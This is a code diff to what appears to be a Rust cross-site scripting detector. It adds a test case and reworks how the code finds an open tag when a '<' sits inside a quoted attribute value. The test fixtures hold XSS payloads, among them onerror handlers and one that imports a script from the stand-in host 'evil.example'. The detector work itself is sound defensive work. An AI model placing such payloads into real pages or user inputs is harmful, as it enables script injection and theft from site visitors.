@@ -181,6 +181,7 @@ pub static DETECTORS: &[Detector] = &[
             "<div ONMOUSEOVER='steal()'>hover</div>",
             "<img alt=\">\" src=x onerror=alert(1)>",
             "<img src=x onerror     =alert(1)>",
+            "<img alt=\"<\" title=\">\" onerror=alert(1)>",
             "<img alt=\"a long alt text that pads the tag so that its opening bracket is far behind the handler attribute\" onerror=import('//evil.example/x.js')>",
         ],
         &[
@@ -294,8 +295,6 @@ fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
     {
         return false;
     }
-    // from the last `<`, a `>` outside quoted values closes the tag
-    let open = before.iter().rposition(|c| *c == b'<');
     let closed_after = |o: usize| {
         let mut quote = None;
         before[o..].iter().any(|&c| match quote {
@@ -311,6 +310,15 @@ fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
             None => c == b'>',
         })
     };
+    // from a `<`, a `>` outside quoted values closes the tag; any `<` left open counts (the
+    // last one may sit inside a quoted value)
+    let open = before
+        .iter()
+        .enumerate()
+        .filter(|(_, c)| **c == b'<')
+        .map(|(i, _)| i)
+        .find(|&o| !closed_after(o))
+        .or_else(|| before.iter().rposition(|c| *c == b'<'));
     let close = before.iter().rposition(|c| *c == b'>');
     match (open, close) {
         (Some(o), _) => !closed_after(o),
